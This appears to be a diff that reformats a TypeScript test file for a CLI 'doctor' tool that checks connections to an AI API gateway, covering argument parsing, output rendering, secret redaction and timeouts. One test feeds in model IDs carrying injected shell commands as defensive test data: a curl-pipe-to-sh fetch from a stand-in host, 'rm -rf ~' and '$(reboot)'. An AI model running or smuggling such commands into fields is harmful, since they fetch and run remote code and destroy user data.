@@ -9,9 +9,25 @@ function result(partial: Partial<VerificationResult> = {}): VerificationResult {
   return {
     ok: true,
     diagnosis: { code: 'ok', severity: 'info', title: 'Connected', detail: 'All good.', fixes: [], evidence: {}, short: 'OK' },
-    baseUrl: { input: ' https://api.rutaapi.com/v1/ ', normalized: 'https://api.rutaapi.com/v1', findings: [{ code: 'trailing_slash', severity: 'info', message: 'Removed the trailing slash.' }], asEntered: false },
+    baseUrl: {
+      input: ' https://api.rutaapi.com/v1/ ',
+      normalized: 'https://api.rutaapi.com/v1',
+      findings: [{ code: 'trailing_slash', severity: 'info', message: 'Removed the trailing slash.' }],
+      asEntered: false,
+    },
     key: { cleaned: 'sk-secret-should-not-show-1234', redacted: 'sk-se…1234', findings: [] },
-    steps: [{ name: 'models', ok: true, status: 200, requestId: 'req_1', latencyMs: 12, code: 'ok', modelCount: 2, contentType: 'application/json' }],
+    steps: [
+      {
+        name: 'models',
+        ok: true,
+        status: 200,
+        requestId: 'req_1',
+        latencyMs: 12,
+        code: 'ok',
+        modelCount: 2,
+        contentType: 'application/json',
+      },
+    ],
     models: ['gpt-4o-mini', 'deepseek-chat'],
     startedAt: '2025-01-01T00:00:00.000Z',
     finishedAt: '2025-01-01T00:00:01.000Z',
@@ -21,9 +37,17 @@ function result(partial: Partial<VerificationResult> = {}): VerificationResult {
 
 describe('doctor: arguments', () => {
   it('check with every option, both --flag value and --flag=value', () => {
-    assert.deepEqual(parseArgs(['check', '--base-url', 'https://x.test/v1', '--model=gpt-4.1', '--timeout', '2.5', '--json', '--key-stdin']), {
-      command: 'check', baseUrl: 'https://x.test/v1', model: 'gpt-4.1', timeoutMs: 2500, json: true, keyStdin: true,
-    });
+    assert.deepEqual(
+      parseArgs(['check', '--base-url', 'https://x.test/v1', '--model=gpt-4.1', '--timeout', '2.5', '--json', '--key-stdin']),
+      {
+        command: 'check',
+        baseUrl: 'https://x.test/v1',
+        model: 'gpt-4.1',
+        timeoutMs: 2500,
+        json: true,
+        keyStdin: true,
+      },
+    );
   });
   it('defaults to the RutaAPI Base URL', () => {
     assert.deepEqual(parseArgs(['check']), { command: 'check', baseUrl: 'https://api.rutaapi.com/v1', json: false, keyStdin: false });
@@ -40,7 +64,16 @@ describe('doctor: arguments', () => {
     }
   });
   it('usage errors: unknown flag or command, bad --timeout, missing values', () => {
-    for (const argv of [['check', '--verbose'], ['frobnicate'], ['check', '--timeout', 'abc'], ['check', '--timeout', '0'], ['check', '--timeout', '-1'], ['check', '--timeout', '9999'], ['check', '--base-url'], ['check', '--model', '--json']]) {
+    for (const argv of [
+      ['check', '--verbose'],
+      ['frobnicate'],
+      ['check', '--timeout', 'abc'],
+      ['check', '--timeout', '0'],
+      ['check', '--timeout', '-1'],
+      ['check', '--timeout', '9999'],
+      ['check', '--base-url'],
+      ['check', '--model', '--json'],
+    ]) {
       assert.equal(parseArgs(argv).command, 'usage_error', argv.join(' '));
     }
   });
@@ -48,17 +81,37 @@ describe('doctor: arguments', () => {
 
 describe('doctor: output', () => {
   it('--json has exactly the documented shape', () => {
-    const json = toJson(result({
-      ok: false,
-      diagnosis: { code: 'rate_limited', severity: 'warning', title: 'T', detail: 'D', fixes: [{ kind: 'retry_after', label: 'Retry in 7 s', value: '7' }, { kind: 'retry', label: 'Try again' }], evidence: { status: 429 }, short: '429' },
-    }));
+    const json = toJson(
+      result({
+        ok: false,
+        diagnosis: {
+          code: 'rate_limited',
+          severity: 'warning',
+          title: 'T',
+          detail: 'D',
+          fixes: [
+            { kind: 'retry_after', label: 'Retry in 7 s', value: '7' },
+            { kind: 'retry', label: 'Try again' },
+          ],
+          evidence: { status: 429 },
+          short: '429',
+        },
+      }),
+    );
     // `dashboard` and `account` were added (fields are added, never renamed); null when unknown.
     assert.deepEqual(Object.keys(json), ['ok', 'diagnosis', 'baseUrl', 'key', 'steps', 'models', 'dashboard', 'account']);
     assert.equal(json.dashboard, null);
     assert.equal(json.account, null);
     assert.deepEqual(Object.keys(json.diagnosis), ['code', 'title', 'detail', 'fixes']);
-    assert.deepEqual(json.diagnosis.fixes, [{ kind: 'retry_after', label: 'Retry in 7 s', value: '7' }, { kind: 'retry', label: 'Try again' }]);
-    assert.deepEqual(json.baseUrl, { input: ' https://api.rutaapi.com/v1/ ', normalized: 'https://api.rutaapi.com/v1', findings: [{ code: 'trailing_slash', severity: 'info' }] });
+    assert.deepEqual(json.diagnosis.fixes, [
+      { kind: 'retry_after', label: 'Retry in 7 s', value: '7' },
+      { kind: 'retry', label: 'Try again' },
+    ]);
+    assert.deepEqual(json.baseUrl, {
+      input: ' https://api.rutaapi.com/v1/ ',
+      normalized: 'https://api.rutaapi.com/v1',
+      findings: [{ code: 'trailing_slash', severity: 'info' }],
+    });
     assert.deepEqual(json.key, { redacted: 'sk-se…1234', findings: [] });
     assert.deepEqual(json.steps, [{ name: 'models', ok: true, status: 200, requestId: 'req_1', latencyMs: 12, code: 'ok' }]);
     assert.deepEqual(json.models, ['gpt-4o-mini', 'deepseek-chat']);
@@ -75,12 +128,23 @@ describe('doctor: output', () => {
   });
 
   it('human: a failure shows ✗, cause, fixes and evidence; lists at most 100 ids', () => {
-    const text = renderHuman(result({
-      ok: false,
-      steps: [{ name: 'models', ok: false, status: 401, requestId: 'req_9', latencyMs: 5, code: 'unauthorized' }],
-      models: [],
-      diagnosis: { code: 'unauthorized', severity: 'error', title: 'Invalid API key (401 Unauthorized)', detail: 'The key is wrong.', fixes: [{ kind: 'open_tokens', label: 'Open Tokens', value: 'https://app.rutaapi.com/console/token' }], evidence: { status: 401, requestId: 'req_9', errorCode: 'invalid_api_key' }, short: '401' },
-    }), { model: 'gpt-4o-mini' });
+    const text = renderHuman(
+      result({
+        ok: false,
+        steps: [{ name: 'models', ok: false, status: 401, requestId: 'req_9', latencyMs: 5, code: 'unauthorized' }],
+        models: [],
+        diagnosis: {
+          code: 'unauthorized',
+          severity: 'error',
+          title: 'Invalid API key (401 Unauthorized)',
+          detail: 'The key is wrong.',
+          fixes: [{ kind: 'open_tokens', label: 'Open Tokens', value: 'https://app.rutaapi.com/console/token' }],
+          evidence: { status: 401, requestId: 'req_9', errorCode: 'invalid_api_key' },
+          short: '401',
+        },
+      }),
+      { model: 'gpt-4o-mini' },
+    );
     assert.match(text, /✗ +GET +\/models +401/);
     assert.match(text, /– +POST \/chat\/completions +not run/);
     assert.match(text, /✗ Invalid API key/);
@@ -94,21 +158,48 @@ describe('doctor: output', () => {
 
   const failed = (diagnosis: VerificationResult['diagnosis'], steps: VerificationResult['steps']): VerificationResult =>
     result({ ok: false, models: [], steps, diagnosis });
-  const timeoutStep: VerificationResult['steps'][number] = { name: 'models', ok: false, status: null, requestId: null, latencyMs: 2001, code: 'timeout' };
+  const timeoutStep: VerificationResult['steps'][number] = {
+    name: 'models',
+    ok: false,
+    status: null,
+    requestId: null,
+    latencyMs: 2001,
+    code: 'timeout',
+  };
   const timeoutDiagnosis: VerificationResult['diagnosis'] = {
-    code: 'timeout', severity: 'error', title: 'No answer in time', detail: 'api.rutaapi.com did not answer completely within 2 s.',
-    fixes: [{ kind: 'retry', label: 'Try again' }, { kind: 'open_proxy_settings', label: 'Open proxy settings (http.proxy, http.proxyStrictSSL)', value: 'http.proxy' }],
-    evidence: { networkCode: 'EngineAbort', url: 'https://api.rutaapi.com/v1/models', errorMessage: 'Deadline exceeded' }, short: 'Timeout',
+    code: 'timeout',
+    severity: 'error',
+    title: 'No answer in time',
+    detail: 'api.rutaapi.com did not answer completely within 2 s.',
+    fixes: [
+      { kind: 'retry', label: 'Try again' },
+      { kind: 'open_proxy_settings', label: 'Open proxy settings (http.proxy, http.proxyStrictSSL)', value: 'http.proxy' },
+    ],
+    evidence: { networkCode: 'EngineAbort', url: 'https://api.rutaapi.com/v1/models', errorMessage: 'Deadline exceeded' },
+    short: 'Timeout',
   };
 
   it('human: a local/network error is labelled "Error", not "Server message"', () => {
     const text = renderHuman(failed(timeoutDiagnosis, [timeoutStep]));
     assert.match(text, /^ {2}Error: Deadline exceeded$/m);
     assert.doesNotMatch(text, /Server message/);
-    const dns = renderHuman(failed({
-      ...timeoutDiagnosis, code: 'dns_failure', title: 'The host name could not be found', detail: 'nonexistent.invalid could not be resolved (DNS).', fixes: [],
-      evidence: { networkCode: 'ENOTFOUND', url: 'https://nonexistent.invalid/v1/models', errorMessage: 'fetch failed — getaddrinfo ENOTFOUND nonexistent.invalid' },
-    }, [{ ...timeoutStep, code: 'dns_failure' }]));
+    const dns = renderHuman(
+      failed(
+        {
+          ...timeoutDiagnosis,
+          code: 'dns_failure',
+          title: 'The host name could not be found',
+          detail: 'nonexistent.invalid could not be resolved (DNS).',
+          fixes: [],
+          evidence: {
+            networkCode: 'ENOTFOUND',
+            url: 'https://nonexistent.invalid/v1/models',
+            errorMessage: 'fetch failed — getaddrinfo ENOTFOUND nonexistent.invalid',
+          },
+        },
+        [{ ...timeoutStep, code: 'dns_failure' }],
+      ),
+    );
     assert.match(dns, /^ {2}Error: fetch failed — getaddrinfo ENOTFOUND nonexistent\.invalid$/m);
     assert.doesNotMatch(dns, /Server message/);
   });
@@ -116,10 +207,17 @@ describe('doctor: output', () => {
   it('human: server text already quoted in the cause is not repeated; otherwise it is shown as "Server message"', () => {
     const message = 'Insufficient balance: your account has no credits left.';
     const diagnosis: VerificationResult['diagnosis'] = {
-      code: 'insufficient_credits', severity: 'error', title: 'No credits left (HTTP 403)', detail: `No credits. The server says: "${message}"`,
-      fixes: [], evidence: { status: 403, requestId: 'req_2', errorMessage: message }, short: 'No credits',
+      code: 'insufficient_credits',
+      severity: 'error',
+      title: 'No credits left (HTTP 403)',
+      detail: `No credits. The server says: "${message}"`,
+      fixes: [],
+      evidence: { status: 403, requestId: 'req_2', errorMessage: message },
+      short: 'No credits',
     };
-    const steps: VerificationResult['steps'] = [{ name: 'models', ok: false, status: 403, requestId: 'req_2', latencyMs: 9, code: 'insufficient_credits' }];
+    const steps: VerificationResult['steps'] = [
+      { name: 'models', ok: false, status: 403, requestId: 'req_2', latencyMs: 9, code: 'insufficient_credits' },
+    ];
     const quoted = renderHuman(failed(diagnosis, steps));
     assert.equal(quoted.split(message).length - 1, 1, quoted);
     assert.doesNotMatch(quoted, /Server message|Error:/);
@@ -129,16 +227,28 @@ describe('doctor: output', () => {
 
   it('human: a terminal hint follows the proxy-settings fix (TLS: NODE_EXTRA_CA_CERTS; others: no HTTPS_PROXY); --json unchanged', () => {
     const timeout = renderHuman(failed(timeoutDiagnosis, [timeoutStep]));
-    assert.match(timeout, /→ Open proxy settings \(http\.proxy, http\.proxyStrictSSL\)\n {6}In a terminal: Node's built-in fetch does not use HTTPS_PROXY; .*VS Code/);
+    assert.match(
+      timeout,
+      /→ Open proxy settings \(http\.proxy, http\.proxyStrictSSL\)\n {6}In a terminal: Node's built-in fetch does not use HTTPS_PROXY; .*VS Code/,
+    );
     assert.doesNotMatch(timeout, /NODE_EXTRA_CA_CERTS/);
     for (const code of ['proxy_error', 'dns_failure', 'connection_reset'] as const) {
-      assert.match(renderHuman(failed({ ...timeoutDiagnosis, code }, [timeoutStep])), /In a terminal: Node's built-in fetch does not use HTTPS_PROXY/, code);
+      assert.match(
+        renderHuman(failed({ ...timeoutDiagnosis, code }, [timeoutStep])),
+        /In a terminal: Node's built-in fetch does not use HTTPS_PROXY/,
+        code,
+      );
     }
-    const tls = renderHuman(failed({ ...timeoutDiagnosis, code: 'tls_error', evidence: { networkCode: 'SELF_SIGNED_CERT_IN_CHAIN' } }, [timeoutStep]));
+    const tls = renderHuman(
+      failed({ ...timeoutDiagnosis, code: 'tls_error', evidence: { networkCode: 'SELF_SIGNED_CERT_IN_CHAIN' } }, [timeoutStep]),
+    );
     assert.match(tls, /→ Open proxy settings .*\n {6}In a terminal: .*NODE_EXTRA_CA_CERTS=\/path\/to\/ca\.pem/);
     assert.doesNotMatch(tls, /HTTPS_PROXY/);
     // No proxy fix, no hint.
-    assert.doesNotMatch(renderHuman(failed({ ...timeoutDiagnosis, fixes: [{ kind: 'retry', label: 'Try again' }] }, [timeoutStep])), /In a terminal/);
+    assert.doesNotMatch(
+      renderHuman(failed({ ...timeoutDiagnosis, fixes: [{ kind: 'retry', label: 'Try again' }] }, [timeoutStep])),
+      /In a terminal/,
+    );
     const json = toJson(failed(timeoutDiagnosis, [timeoutStep]));
     assert.deepEqual(json.diagnosis.fixes, timeoutDiagnosis.fixes);
     assert.ok(!JSON.stringify(json).includes('In a terminal'));
@@ -152,7 +262,9 @@ describe('doctor: output', () => {
     assert.equal(column(rows[0], /(GET|POST) /), column(rows[1], /(GET|POST) /), rows.join('\n'));
     assert.doesNotMatch(text, /---/);
     assert.match(rows[0], /GET +\/models +— +2001 ms +timeout/);
-    const ok = renderHuman(result(), { model: 'gpt-4o-mini' }).split('\n').find((l) => l.includes('GET  /models')) as string;
+    const ok = renderHuman(result(), { model: 'gpt-4o-mini' })
+      .split('\n')
+      .find((l) => l.includes('GET  /models')) as string;
     assert.equal(column(ok, /\d+ ms/) + String(12).length, column(rows[0], /\d+ ms/) + String(2001).length, 'latency column');
     assert.equal(column(ok, /(GET|POST) /), column(rows[1], /(GET|POST) /));
   });
@@ -170,17 +282,39 @@ describe('doctor: text from the network is inert in the terminal', () => {
     result({
       ok: false,
       model: `m${HOSTILE}`,
-      baseUrl: { input: `https://api.rutaapi.com/v1${HOSTILE}`, normalized: null, findings: [{ code: 'unparseable', severity: 'error', message: `Bad ${HOSTILE}` }], asEntered: false },
-      key: { cleaned: 'sk-secret-should-not-show-1234', redacted: 'sk-se…1234', findings: [{ code: 'non_ascii', severity: 'warning', message: `Key ${HOSTILE}` }] },
+      baseUrl: {
+        input: `https://api.rutaapi.com/v1${HOSTILE}`,
+        normalized: null,
+        findings: [{ code: 'unparseable', severity: 'error', message: `Bad ${HOSTILE}` }],
+        asEntered: false,
+      },
+      key: {
+        cleaned: 'sk-secret-should-not-show-1234',
+        redacted: 'sk-se…1234',
+        findings: [{ code: 'non_ascii', severity: 'warning', message: `Key ${HOSTILE}` }],
+      },
       steps: [
         { name: 'models', ok: true, status: 200, requestId: `req${HOSTILE}`, latencyMs: 3, code: 'ok', modelCount: 2 },
         { name: 'chat', ok: true, status: 200, requestId: `req2${HOSTILE}`, latencyMs: 4, code: 'ok', replyExcerpt: `Hi${HOSTILE}` },
       ],
       models: [`id${HOSTILE}`, 'plain-id'],
       diagnosis: {
-        code: 'html_response', severity: 'error', title: `HTML page ("${HOSTILE}")`, detail: `The server says: "${HOSTILE}"`,
+        code: 'html_response',
+        severity: 'error',
+        title: `HTML page ("${HOSTILE}")`,
+        detail: `The server says: "${HOSTILE}"`,
         fixes: [{ kind: 'pick_model', label: `Use ${HOSTILE}`, value: `v${HOSTILE}` }],
-        evidence: { status: 400, requestId: `req${HOSTILE}`, errorCode: `code${HOSTILE}`, errorType: `type${HOSTILE}`, errorMessage: `msg${HOSTILE}`, url: `https://x.test/v1${HOSTILE}`, location: `https://y.test/${HOSTILE}`, networkCode: `E${HOSTILE}`, contentType: `text/html${HOSTILE}` },
+        evidence: {
+          status: 400,
+          requestId: `req${HOSTILE}`,
+          errorCode: `code${HOSTILE}`,
+          errorType: `type${HOSTILE}`,
+          errorMessage: `msg${HOSTILE}`,
+          url: `https://x.test/v1${HOSTILE}`,
+          location: `https://y.test/${HOSTILE}`,
+          networkCode: `E${HOSTILE}`,
+          contentType: `text/html${HOSTILE}`,
+        },
         short: 'HTML',
       },
     });
@@ -216,8 +350,13 @@ describe('doctor: text from the network is inert in the terminal', () => {
     const evil = 'gpt-4o; curl -s https://x.example/p | sh #';
     const text = renderHuman(result({ models: [evil, 'gpt-4o-mini'] }));
     const line = text.split('\n').find((l) => l.includes('npm run doctor --')) as string;
-    assert.equal(line, `  npm run doctor -- check --base-url https://api.rutaapi.com/v1 --model 'gpt-4o; curl -s https://x.example/p | sh #'`);
-    const quoteInId = renderHuman(result({ models: ["it's; rm -rf ~"] })).split('\n').find((l) => l.includes('npm run doctor --')) as string;
+    assert.equal(
+      line,
+      `  npm run doctor -- check --base-url https://api.rutaapi.com/v1 --model 'gpt-4o; curl -s https://x.example/p | sh #'`,
+    );
+    const quoteInId = renderHuman(result({ models: ["it's; rm -rf ~"] }))
+      .split('\n')
+      .find((l) => l.includes('npm run doctor --')) as string;
     assert.ok(quoteInId.endsWith(`--model 'it'\\''s; rm -rf ~'`), quoteInId);
     const odd = renderHuman(result({ baseUrl: { ...result().baseUrl, normalized: 'https://h.test/v1/$(reboot)' } }));
     assert.match(odd, /--base-url 'https:\/\/h\.test\/v1\/\$\(reboot\)' --model gpt-4o-mini$/m);
@@ -234,7 +373,13 @@ describe('doctor: text from the network is inert in the terminal', () => {
 
 describe('doctor: --timeout', () => {
   it('rounds a positive value below one millisecond up to 1 ms (never 0, which meant the 15 s default)', () => {
-    assert.deepEqual(parseArgs(['check', '--timeout', '0.0001']), { command: 'check', baseUrl: 'https://api.rutaapi.com/v1', timeoutMs: 1, json: false, keyStdin: false });
+    assert.deepEqual(parseArgs(['check', '--timeout', '0.0001']), {
+      command: 'check',
+      baseUrl: 'https://api.rutaapi.com/v1',
+      timeoutMs: 1,
+      json: false,
+      keyStdin: false,
+    });
     assert.equal((parseArgs(['check', '--timeout', '0.0004']) as { timeoutMs: number }).timeoutMs, 1);
     assert.equal((parseArgs(['check', '--timeout=0.001']) as { timeoutMs: number }).timeoutMs, 1);
     assert.equal((parseArgs(['check', '--timeout', '0.5']) as { timeoutMs: number }).timeoutMs, 500);
@@ -250,12 +395,28 @@ describe('doctor: --timeout', () => {
 
 describe('doctor: the Base URL as entered is echoed without its query or fragment', () => {
   const withInput = (input: string, normalized: string | null): VerificationResult =>
-    result({ baseUrl: { input, normalized, findings: [{ code: 'query_or_fragment', severity: 'warning', message: 'Removed the part after "?" or "#".' }], asEntered: false } });
+    result({
+      baseUrl: {
+        input,
+        normalized,
+        findings: [{ code: 'query_or_fragment', severity: 'warning', message: 'Removed the part after "?" or "#".' }],
+        asEntered: false,
+      },
+    });
 
   it('--json baseUrl.input drops ?query and #fragment and says so', () => {
-    assert.equal(toJson(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1')).baseUrl.input, 'https://api.rutaapi.com/v1 (query removed)');
-    assert.equal(toJson(withInput('https://api.rutaapi.com/v1#tok=hunter2', 'https://api.rutaapi.com/v1')).baseUrl.input, 'https://api.rutaapi.com/v1 (fragment removed)');
-    assert.equal(toJson(withInput('https://api.rutaapi.com/v1?pass=hunter2#x', 'https://api.rutaapi.com/v1')).baseUrl.input, 'https://api.rutaapi.com/v1 (query and fragment removed)');
+    assert.equal(
+      toJson(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1')).baseUrl.input,
+      'https://api.rutaapi.com/v1 (query removed)',
+    );
+    assert.equal(
+      toJson(withInput('https://api.rutaapi.com/v1#tok=hunter2', 'https://api.rutaapi.com/v1')).baseUrl.input,
+      'https://api.rutaapi.com/v1 (fragment removed)',
+    );
+    assert.equal(
+      toJson(withInput('https://api.rutaapi.com/v1?pass=hunter2#x', 'https://api.rutaapi.com/v1')).baseUrl.input,
+      'https://api.rutaapi.com/v1 (query and fragment removed)',
+    );
     const text = renderJson(withInput('https://api.rutaapi.com/v1?pass=hunter2', 'https://api.rutaapi.com/v1'));
     assert.ok(!text.includes('hunter2'), text);
   });
